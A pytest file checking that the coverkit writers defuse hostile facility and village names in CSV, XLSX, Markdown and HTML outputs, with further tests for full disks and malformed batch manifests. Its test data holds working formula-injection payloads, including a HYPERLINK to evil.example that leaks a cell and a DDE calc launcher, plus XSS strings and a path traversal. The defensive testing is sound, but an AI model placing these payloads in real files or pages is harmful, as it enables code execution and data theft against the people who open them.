"""Hostile names through every writer (issue 15, families 2, 4 and 5: coverkit.writers).

A real small plan (Mwali, ``roads="none"``) is made once with hostile facility
and village names; every case then reads the files actually written: CSV text,
the XLSX cells (openpyxl), the Markdown line structure and the parsed HTML of
the report and the map. Then full disks (a patched writer and a real tiny
tmpfs), malformed batch manifests, bad worker counts and scheduler addresses,
and the province tables and overview map of a batch with hostile names.
"""

from __future__ import annotations

import csv
import dataclasses
import errno
import io
import json
import re
import subprocess
import time
import warnings
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import Point

from coverkit import batch, report, settings
from coverkit.api import run_plan
from coverkit.cli.main import main
from coverkit.config import RunConfig
from coverkit.errors import ConfigError, InputFileError, OutputError
from coverkit.writers import (
    FORMULA_START,
    defuse_cell,
    defused_frame,
    md_text,
    printable,
    sheet_names,
    write_csv,
    write_xlsx,
)

from .conftest import FACILITIES, VILLAGES, points_gpkg

openpyxl = pytest.importorskip("openpyxl")

#: Facility names (the seat hospital and three centres).
FACILITY_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    "\u202eexe.tnemucod\u202c clinic",
]
#: Village names.
VILLAGE_NAMES = [
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "＝1+1 full-width",
    "bell\x07and\x1bescape",
    "Djoiezi\r\n# Forged heading\r\n| forged | row |",
    "</script><script>alert(1)</script>",
    "- item [link](javascript:alert(1)) **bold** `code` _u_ 1. x|y " + "长" * 300 + " 🏥🚑",
]
HOSTILE = FACILITY_NAMES + VILLAGE_NAMES
IDS = [f"h{i}" for i in range(len(HOSTILE))]


def villages_gpkg(tmp: Path, rows: list[tuple[Any, ...]]) -> Path:
    """A village point layer (id, name, population): any text survives a GeoPackage."""
    gdf = gpd.GeoDataFrame(
        {
            "id": [r[0] for r in rows],
            "name": [r[1] for r in rows],
            "population": [r[4] for r in rows],
        },
        geometry=[Point(r[2], r[3]) for r in rows],
        crs=4326,
    )
    path = tmp / "villages.gpkg"
    gdf.to_file(path, engine="pyogrio")
    return path


def hostile_inputs(tmp: Path) -> dict[str, str]:
    """Facility and village tables of Mwali whose names are :data:`HOSTILE`.

    Facility names reach the map and the GeoPackage only, so they also name four
    more villages (beside the first four) to reach every table.
    """
    fac = [(r[0], n, *r[2:]) for r, n in zip(FACILITIES, FACILITY_NAMES, strict=True)]
    vil = [(r[0], n, *r[2:]) for r, n in zip(VILLAGES, VILLAGE_NAMES, strict=True)]
    vil += [
        (f"V{9 + i}", n, r[2] + 0.003, r[3] + 0.003, 700)
        for i, (r, n) in enumerate(zip(VILLAGES, FACILITY_NAMES, strict=False))
    ]
    return {
        "facilities": str(points_gpkg(tmp, fac)),
        "villages": str(villages_gpkg(tmp, vil)),
    }


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    cfg = RunConfig(county="Mwali", roads="none", out=str(tmp / "out"), **hostile_inputs(tmp))
    result = run_plan(cfg)
    folder = result.map_path.parents[1] / "outputs" / "Mwali"
    return result, folder


def loaded(run_: Any, name: str) -> str:
    """The name as coverkit loaded it (the loader may trim surrounding spaces)."""
    plan = run_.plan
    names = [*plan.facilities["name"].astype(str), *plan.villages["name"].astype(str)]
    hits = [n for n in names if n == name or n == name.strip()]
    assert hits, f"{name!r} did not reach the plan"
    return hits[0]


# --------------------------------------------------------------------------- spreadsheets


def _csv_cells(folder: Path) -> list[str]:
    cells = []
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as fh:  # keep CR/LF inside cells
            for row in csv.reader(fh):
                cells += row
    return cells


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_csv_holds_the_name_defused(run, name):
    result, folder = run
    want = defuse_cell(loaded(result, name))
    assert want in _csv_cells(folder)


def test_no_csv_cell_starts_a_formula(run):
    _, folder = run
    bad = [c for c in _csv_cells(folder) if c.startswith(FORMULA_START)]
    # a number such as -1.5 is a number, not a formula
    bad = [c for c in bad if not re.fullmatch(r"-?[\d.]+(e[-+]?\d+)?|-inf", c)]
    assert bad == []


def _xlsx_cells(path: Path) -> list[Any]:
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_xlsx_holds_the_name_as_text(run, name):
    result, folder = run
    want = re.sub(
        "[\x00-\x08\x0b\x0c\x0e-\x1f]",
        lambda m: f"\\x{ord(m.group()):02x}",
        loaded(result, name).replace("\r\n", "\n"),  # XML reads CR LF back as LF
    )
    hits = [c for c in _xlsx_cells(folder / "plan.xlsx") if c.value == want]
    assert hits
    assert all(c.data_type == "s" for c in hits)
    if want.startswith(FORMULA_START):
        assert all(c.quotePrefix for c in hits)  # Excel keeps it text after an edit too


def test_no_xlsx_cell_is_a_formula(run):
    _, folder = run
    assert [c.coordinate for c in _xlsx_cells(folder / "plan.xlsx") if c.data_type == "f"] == []


def test_control_characters_written_visibly_to_xlsx(run):
    _, folder = run
    values = [str(c.value) for c in _xlsx_cells(folder / "plan.xlsx") if c.value is not None]
    assert any("bell\\x07and\\x1bescape" in v for v in values)
    assert not any("\x07" in v or "\x1b" in v for v in values)


# --------------------------------------------------------------------------- markdown


def _table_columns(line: str) -> int:
    """Columns of a Markdown table row (escaped pipes do not count)."""
    return len(re.findall(r"(?<!\\)\|", line)) - 1


def test_markdown_lines_keep_their_structure(run):
    _, folder = run
    md = (folder / "report.md").read_text(encoding="utf-8")
    assert "\r" not in md
    header = None
    for line in md.split("\n"):
        if line.startswith("|"):
            if header is None:
                header = _table_columns(line)
            assert _table_columns(line) == header, line[:120]
        else:
            header = None


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_markdown_name_never_starts_a_line(run, name):
    result, folder = run
    md = (folder / "report.md").read_text(encoding="utf-8")
    raw = loaded(result, name)
    assert md_text(raw) in md  # the escaped name is in the report ...
    pieces = [p.strip() for p in re.split(r"[\r\n]", raw) if p.strip()]
    for line in md.split("\n"):
        for piece in pieces[1:]:  # ... and no part after a line break starts a line
            assert not line.startswith(piece)
    assert raw.strip() not in md or raw.strip() == md_text(raw)


def test_markdown_has_only_coverkits_headings(run):
    _, folder = run
    md = (folder / "report.md").read_text(encoding="utf-8")
    headings = [line for line in md.split("\n") if line.startswith("#")]
    assert all("Forged" not in h for h in headings)
    assert headings[0].startswith("# Mwali")


# --------------------------------------------------------------------------- html


class _Tags(HTMLParser):
    """Tags, attributes and text of an HTML page (the page parsed as a browser would)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def _parse(path: Path) -> _Tags:
    parser = _Tags()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def test_report_html_has_no_injected_tags(run):
    _, folder = run
    page = _parse(folder / "report.html")
    assert {t for t, _ in page.tags} <= {
        "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3",
        "p", "ul", "li", "div", "table", "thead", "tbody", "tr", "th", "td",
    }  # fmt: skip
    assert not any(k.startswith("on") for _, attrs in page.tags for k in attrs)


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_report_html_shows_the_name_as_text(run, name):
    result, folder = run
    text = "".join(_parse(folder / "report.html").text)
    assert printable(loaded(result, name)) in text


def test_map_has_no_injected_tags(run):
    result, _ = run
    page = _parse(result.map_path)
    assert "img" not in {t for t, _ in page.tags}
    assert not any(k.startswith("on") for _, attrs in page.tags for k in attrs)
    scripts = "".join(page.scripts)
    assert "alert(1)</script>" not in scripts
    assert "<img" not in scripts
    assert "<script" not in scripts
    assert "\u202e" not in result.map_path.read_text(encoding="utf-8")


def test_hostile_county_name_in_report(run, tmp_path):
    result, _ = run
    hostile = "Mwali\n# Owned\r\n<script>alert(1)</script>|=1+1"
    plan = dataclasses.replace(result.plan, county_name=hostile)
    report.save_report(plan, tmp_path, include_map=True)
    md = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert not any(line.startswith("# Owned") for line in md.split("\n"))
    assert md.split("\n")[0].startswith("# Mwali # Owned  &lt;script&gt;")
    assert [line for line in md.split("\n") if line.startswith("# ")] == [md.split("\n")[0]]
    for name in ("report.html", "map.html"):
        page = _parse(tmp_path / name)
        assert [t for t, _ in page.tags if t == "script"] == [] or name == "map.html"
        assert "alert(1)</script>" not in "".join(page.scripts)
        assert "<script>alert(1)</script>" in "".join(page.text) or name == "map.html"


# --------------------------------------------------------------------------- the writers


def test_numbers_stay_numbers_and_formulas_do_not(tmp_path):
    df = pd.DataFrame({"name": ["=1+1", "-x", "ok", None], "n": [-1.5, 2.0, -3.0, 4.0]})
    df["=col"] = ["a", "b", "c", "d"]
    write_csv(df, tmp_path / "t.csv")
    write_xlsx({"t": df}, tmp_path / "t.xlsx")
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig")
    assert back["'=col"].tolist() == ["a", "b", "c", "d"]
    assert back["name"].tolist()[:3] == ["'=1+1", "'-x", "ok"]
    assert back["n"].tolist() == [-1.5, 2.0, -3.0, 4.0]
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
    assert [c.value for c in ws[1]] == ["name", "n", "=col"]
    assert ws["C1"].data_type == "s"
    assert ws["C1"].quotePrefix
    assert ws["B2"].value == -1.5
    assert ws["B2"].data_type == "n"
    assert defused_frame(df)["n"].tolist() == [-1.5, 2.0, -3.0, 4.0]


def test_sheet_names_valid_and_unique():
    names = sheet_names(["a/b", "A/B", "x" * 40, "x" * 40, "History", "'q'", "=x", "", "[:*?]\x07"])
    assert len({n.casefold() for n in names}) == len(names)
    assert all(0 < len(n) <= 31 for n in names)
    assert not any(ch in n for n in names for ch in "[]:*?/\\\x07")
    assert names[:2] == ["a_b", "A_B~2"]
    assert names[6] == "_=x"
    assert sheet_names(["a/b", "A/B"]) == names[:2]  # deterministic


def test_xlsx_with_hostile_sheet_and_column_names(tmp_path):
    df = pd.DataFrame({"=bad\x07col": ["\x00nul", "ok"]})
    write_xlsx({"=s/h:e*e?t[1]" + "x" * 40: df}, tmp_path / "t.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx")
    ws = wb.worksheets[0]
    assert len(ws.title) <= 31
    assert not set(ws.title) & set("[]:*?/\\")
    assert ws["A1"].value == "=bad\\x07col"
    assert ws["A1"].data_type == "s"
    assert ws["A2"].value == "\\x00nul"


# --------------------------------------------------------------------------- full disks


def _one_line_full_disk(exc: BaseException, name: str) -> None:
    msg = str(exc)
    assert "\n" not in msg
    assert name in msg
    assert "free space or choose another --out" in msg


def test_full_disk_while_writing_the_gpkg_patched(run, tmp_path, monkeypatch):
    import pyogrio

    def full(*args: Any, **kwargs: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pyogrio, "write_dataframe", full)
    with pytest.raises(OutputError) as info:
        report.save_report(run[0].plan, tmp_path, include_map=False)
    _one_line_full_disk(info.value, "plan.gpkg")
    assert list(tmp_path.iterdir()) == []


def test_full_disk_reported_by_gdal_is_translated(run, tmp_path, monkeypatch):
    import pyogrio
    from pyogrio.errors import FeatureError

    def full(*args: Any, **kwargs: Any) -> None:
        raise FeatureError("failed to execute insert : database or disk is full")

    monkeypatch.setattr(pyogrio, "write_dataframe", full)
    with pytest.raises(OutputError) as info:
        report.save_report(run[0].plan, tmp_path, include_map=False)
    _one_line_full_disk(info.value, "plan.gpkg")


@pytest.mark.parametrize("writer", ["csv", "xlsx", "md"])
def test_full_disk_while_writing_tables_and_text(run, tmp_path, monkeypatch, writer):
    import builtins

    import openpyxl.workbook.workbook as wbmod

    real_open = builtins.open

    def full(*args: Any, **kwargs: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    if writer == "xlsx":
        monkeypatch.setattr(wbmod.Workbook, "save", full)
        name = "plan.xlsx"
    else:
        suffix = ".csv" if writer == "csv" else ".md"

        def open_full(file: Any, mode: str = "r", *a: Any, **k: Any) -> Any:
            if "w" in mode and suffix + "." in Path(str(file)).name:
                full()
            return real_open(file, mode, *a, **k)

        monkeypatch.setattr(builtins, "open", open_full)
        name = "eligibility.csv" if writer == "csv" else "report.md"
    with pytest.raises(OutputError) as info:
        report.save_report(run[0].plan, tmp_path, include_map=False)
    _one_line_full_disk(info.value, name)
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def tiny_fs(tmp_path):
    """A real 300 kB tmpfs (skipped where mounting is not permitted): the report fits, the
    GeoPackage (~450 kB for Mwali) does not."""
    mnt = tmp_path / "tiny"
    mnt.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=300k", "tmpfs", str(mnt)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    try:
        yield mnt
    finally:
        subprocess.run(["umount", str(mnt)], check=False)


def test_full_disk_real_tmpfs_run(tiny_fs, capsys):
    out = tiny_fs / "out"
    code = main(["-q", "plan", "--county", "Mwali", "--roads", "none", "--out", str(out)])
    err = capsys.readouterr().err.strip()
    assert code == 2
    assert len(err.splitlines()) == 1
    assert err.startswith("coverkit: error: ")
    assert "free space or choose another --out" in err
    assert "plan.gpkg" in err  # the report's files fit; the GeoPackage does not
    leftovers = [p for p in tiny_fs.rglob("*") if p.is_file()]
    assert leftovers == []


# --------------------------------------------------------------------------- batch


MANIFESTS: list[tuple[str, bytes, str]] = [
    (
        "truncated",
        b'{"version": 1, "counties": {"450203": {"hash": "ab',
        r"not a readable batch manifest",
    ),
    ("list", b"[1, 2, 3]", r"expected an object with a 'counties' object"),
    ("counties_list", b'{"counties": []}', r"expected an object with a 'counties' object"),
    ("entry_string", b'{"counties": {"450203": "ok"}}', r"county '450203' is a str, not an object"),
    (
        "missing_hash",
        b'{"counties": {"450203": {"status": "ok"}}}',
        r"county '450203' has no 'hash'",
    ),
    (
        "hash_number",
        b'{"counties": {"1": {"hash": 5, "status": "ok", "error": "", "outputs": {},'
        b' "summary": {}}}}',
        r"has a int as 'hash', not a str",
    ),
    (
        "bad_status",
        b'{"counties": {"1": {"hash": "h", "status": "done", "error": "", "outputs": {},'
        b' "summary": {}}}}',
        r"has status 'done', not ok or error",
    ),
    (
        "summary_nested",
        b'{"counties": {"1": {"hash": "h", "status": "ok", "error": "", "outputs": {},'
        b' "summary": {"county": ["x"]}}}}',
        r"has a list as summary 'county'",
    ),
    ("not_utf8", '{"counties": {"1": "县"}}'.encode("gbk"), r"is not UTF-8 text"),
    ("deep", b"[" * 100_000 + b"]" * 100_000, r"not a readable batch manifest"),
    ("empty", b"", r"not a readable batch manifest"),
]


@pytest.mark.parametrize(
    ("data", "pattern"), [m[1:] for m in MANIFESTS], ids=[m[0] for m in MANIFESTS]
)
def test_malformed_manifest_is_one_line(tmp_path, data, pattern):
    path = tmp_path / "manifest.json"
    path.write_bytes(data)
    with pytest.raises(InputFileError, match=pattern) as info:
        batch.read_manifest(path)
    msg = str(info.value)
    assert "\n" not in msg
    assert str(path) in msg
    assert "delete it to redo every county" in msg


def test_huge_manifest_refused_before_reading(tmp_path, monkeypatch):
    path = tmp_path / "manifest.json"
    path.write_text(json.dumps({"counties": {}, "pad": "x" * 5000}), encoding="utf-8")
    monkeypatch.setattr(settings, "batch_manifest_max_bytes", 1000)
    with pytest.raises(InputFileError, match=r"too large for a batch manifest"):
        batch.read_manifest(path)


def test_cli_batch_with_a_malformed_manifest(tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "manifest.json").write_text("[]", encoding="utf-8")
    toml = tmp_path / "c.toml"
    toml.write_text('region = "comoros"\ncounty = "Mwali"\nroads = "none"\n', encoding="utf-8")
    code = main(["-q", "batch", "--configs", str(toml), "--out", str(out), "--workers", "1"])
    err = capsys.readouterr().err.strip()
    assert code == 2
    assert len(err.splitlines()) == 1
    assert "manifest.json" in err
    assert "delete it" in err


@pytest.mark.parametrize("workers", [0, -1, 1.5, True])
def test_run_batch_refuses_bad_workers_at_once(tmp_path, workers):
    start = time.monotonic()
    with pytest.raises(ConfigError, match=r"number of workers must be a whole number"):
        batch.run_batch([RunConfig(county="Mwali")], out=tmp_path, n_workers=workers)
    assert time.monotonic() - start < 5
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "address", ["tcp://127.0.0.1", "localhost", "tcp://:8786", "tcp://host:99999", "http://h:1"]
)
def test_scheduler_address_without_a_port(tmp_path, address):
    with pytest.raises(ConfigError, match=r"Dask scheduler address") as info:
        batch.run_batch([RunConfig(county="Mwali")], out=tmp_path, scheduler=address)
    assert "\n" not in str(info.value)


def test_unreachable_scheduler_within_the_timeout(tmp_path, monkeypatch):
    pytest.importorskip("distributed")
    import socket

    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    monkeypatch.setattr(settings, "batch_scheduler_timeout_s", 1.0)
    cfg = RunConfig(region="comoros", county="Mwali", roads="none")
    start = time.monotonic()
    with pytest.raises(ConfigError, match=r"cannot reach the Dask scheduler .* within 1 s"):
        batch.run_batch([cfg], out=tmp_path, scheduler=f"tcp://127.0.0.1:{port}", progress=False)
    assert time.monotonic() - start < 15


def _province_table() -> pd.DataFrame:
    names = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1+1", "bell\x07", "<b>x</b>\r\n# h"]
    table = pd.DataFrame(
        {
            "county": names,
            "code": [f"{i}" for i in range(len(names))],
            "status": ["ok", "ok", "ok", "error", "error", "error"],
            "error": ["", "", "", "=2+2", "-x", "</script><img src=x onerror=alert(1)>"],
            "subcentres": ["=A1", "", "", "", "", ""],
            "share_before": [0.1, 0.2, 0.3, None, None, None],
            "share_after": [0.5, 0.6, 0.7, None, None, None],
            "map": ["maps/a.html", "javascript:alert(1)", "../../etc/x.html", "", "", ""],
            "population": [-1.0, 2.0, 3.0, None, None, None],
        }
    )
    return table


def test_province_tables_defused(tmp_path):
    paths = batch.write_province_tables(_province_table(), tmp_path)
    text = paths["csv"].read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[4][3] == "'=2+2"
    assert rows[1][-1] == "-1"  # a negative number stays a number
    cells = _xlsx_cells(paths["xlsx"])
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert "=cmd|' /C calc'!A0" in values
    assert "bell\\x07" in values
    assert sorted(p.name for p in tmp_path.iterdir()) == ["province.csv", "province.xlsx"]


def test_overview_map_escapes_names_and_links(tmp_path):
    table = _province_table()
    square = "POLYGON ((43 -12, 44 -12, 44 -13, 43 -13, 43 -12))"
    manifest = {c: {"summary": {"outline": square}} for c in table["code"]}
    manifest["1"]["summary"]["outline"] = "garbage WKT"  # skipped, not a traceback
    path = batch.write_overview_map(table, manifest, tmp_path / "province.html")
    page = _parse(path)
    assert "img" not in {t for t, _ in page.tags}
    scripts = "".join(page.scripts)
    assert "javascript:alert" not in scripts
    assert "../../etc" not in scripts
    assert "maps/a.html" in scripts
    failed = "".join(page.text)
    assert "</script><img src=x onerror=alert(1)>" in failed  # shown as text


def test_batch_with_hostile_names_records_failure_and_defuses(tmp_path):
    pytest.importorskip("distributed")
    ok = RunConfig(region="comoros", county="Mwali", roads="none", **hostile_inputs(tmp_path))
    bad = RunConfig(region="comoros", county="=HYPERLINK(1)", roads="none")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        res = batch.run_batch(
            [ok, bad], out=tmp_path / "out", n_workers=1, processes=False, progress=False
        )
    assert [f[1] for f in res.failed] == ["=HYPERLINK(1)"]
    assert "\n" not in res.failed[0][2]
    assert res.table.loc[res.table["status"] == "ok", "county"].tolist() == ["Mwali"]
    cells = _xlsx_cells(res.table_paths["xlsx"])
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    text = res.table_paths["csv"].read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(1)" in text
    manifest = batch.read_manifest(res.manifest_path)  # written back, still a manifest
    assert manifest["=HYPERLINK(1)"]["status"] == "error"
    leftovers = [p.name for p in (tmp_path / "out").iterdir() if p.name.startswith(".")]
    assert leftovers == []


def test_missing_values_are_empty_cells_not_na_text(tmp_path):
    df = pd.DataFrame(
        {"n": pd.array([1, None], dtype="Int64"), "s": pd.array(["a", None]), "k": ["x", "y"]}
    )
    write_xlsx({"t": df}, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
    assert [c.value for c in ws["A"]] == ["n", 1, None]  # was the text "<NA>"
    assert [c.value for c in ws["B"]] == ["s", "a", None]
